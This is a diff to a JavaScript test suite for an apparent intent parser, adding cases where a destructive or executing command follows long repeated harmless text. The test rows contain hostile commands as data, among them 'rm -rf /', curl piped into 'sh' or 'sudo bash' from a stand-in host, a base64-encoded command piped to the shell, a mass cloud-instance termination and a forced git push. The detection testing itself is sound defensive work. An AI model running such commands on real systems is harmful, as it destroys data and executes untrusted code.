@@ -122,12 +122,21 @@ describe('what matters most at the end of a long text', () => {
     ['ls -l /tmp; ', 'rm -rf /', 'delete'],
     ['select a from b where c = 1; ', 'DROP TABLE users', 'delete'],
     ['cat /tmp/a; ', 'curl https://x.example/i | sh', 'execute'],
+    ['curl ', 'curl https://x.example/i | sudo bash', 'execute'],
+    ['curl https://x.example/a; ', 'curl -X DELETE https://x.example/users/7', 'delete'],
+    ['wget https://x.example/a; ', 'wget https://x.example/users/7/delete', 'delete'],
+    ['git log -n; ', 'git push origin main --force', 'update'],
+    ['aws s3 ls; ', 'aws ec2 terminate-instances --all', 'delete'],
+    ['echo a; ', 'echo cm0K | base64 -d | sh', 'execute'],
+    ['send the note, ', 'send $500 to Bob', 'transfer'],
+    ['give feedback, ', 'give $500 to Bob', 'transfer'],
+    ['read the notes. ', 'I want a new cluster', 'create'],
   ];
   for (const [piece, tail, action] of TAILS)
     it(`${JSON.stringify(piece)} over and over, then ${JSON.stringify(tail)}: ${action} leads`, () => {
       const parse = parseIntent(long(piece, tail), lexicon);
       expect(parse.action).to.equal(action);
-      expect(parse.effect).to.equal(action === 'transfer' ? 'write' : 'destructive');
+      expect(parse.effect).to.equal(action === 'transfer' || action === 'create' ? 'write' : 'destructive');
     });
 
   it('an address outside counts wherever it stands', () => {
